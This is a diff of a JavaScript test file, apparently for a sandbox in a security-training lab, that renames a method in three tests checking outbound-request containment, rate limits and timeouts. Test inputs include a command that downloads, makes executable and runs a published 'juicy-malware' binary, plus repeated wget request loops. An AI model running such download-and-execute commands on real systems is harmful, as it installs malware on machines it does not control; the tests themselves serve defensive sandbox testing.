@@ -108,7 +108,7 @@ describe('the machine around it', () => {
 
   it('downloads the published sample, which calls the lab', async () => {
     const lab = await openCanary()
-    sandbox.outbound.serveAt({ host: '127.0.0.1', port: lab.port })
+    sandbox.outbound.setOwnAddress({ host: '127.0.0.1', port: lab.port })
     const published = 'https://github.com/J12934/juicy-malware/blob/master/juicy_malware_linux_amd_64?raw=true'
     const code = `${childProcess}.exec('wget -O malware ${published} && chmod +x malware && ./malware')`
     expect(await textOf(code)).toBe('[object Object]')
@@ -122,7 +122,7 @@ describe('the machine around it', () => {
 
   it('sends no more than a few requests for one script', async () => {
     const lab = await openCanary()
-    sandbox.outbound.serveAt({ host: '127.0.0.1', port: lab.port })
+    sandbox.outbound.setOwnAddress({ host: '127.0.0.1', port: lab.port })
     await textOf(`${childProcess}.exec('${'wget -q -O /dev/null http://localhost:3000/;'.repeat(20)}')`)
     expect(lab.requests).toHaveLength(5)
     lab.close()
@@ -130,7 +130,7 @@ describe('the machine around it', () => {
 
   it('waits five seconds for all requests of one script together, so that other scripts get their turn', async () => {
     const slow = await openCanary((_request, response) => setTimeout(() => response.end('late'), 1700))
-    sandbox.outbound.serveAt({ host: '127.0.0.1', port: slow.port })
+    sandbox.outbound.setOwnAddress({ host: '127.0.0.1', port: slow.port })
     const asking = textOf(`${childProcess}.execSync('${'wget -q -O- http://localhost:3000/;'.repeat(5)}')`)
     expect(await textOf('1 + 1')).toBe('2')
     expect(await asking).toMatch(/timed out(\n.*too many requests){2}/)
